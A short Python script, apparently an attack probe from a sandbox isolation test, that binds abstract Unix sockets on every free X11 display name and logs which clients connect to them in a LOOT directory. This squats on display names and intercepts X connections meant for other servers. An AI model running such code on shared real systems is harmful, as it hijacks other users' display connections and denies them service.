"""Shows a window, then occupies every free display name. In LOOT it writes `all` when it has all names, and `clients`
for each client that connected."""
import os, resource, selectors, socket, subprocess

subprocess.Popen(["xterm"])
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
waiting = selectors.DefaultSelector()
for number in range(1000):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.bind("\0/tmp/.X11-unix/X%d" % number)
    except OSError:
        continue
    s.listen()
    waiting.register(s, selectors.EVENT_READ, number)
open(os.path.join(os.environ["LOOT"], "all"), "w").close()
own = os.environ["DISPLAY"].lstrip(":")
while True:
    for key, _ in waiting.select():
        client, _ = key.fileobj.accept()
        # In a separate network the app's own window connects here, which is no success of the attack.
        if str(key.data) != own:
            open(os.path.join(os.environ["LOOT"], "clients"), "a").write("%d\n" % key.data)
        client.close()
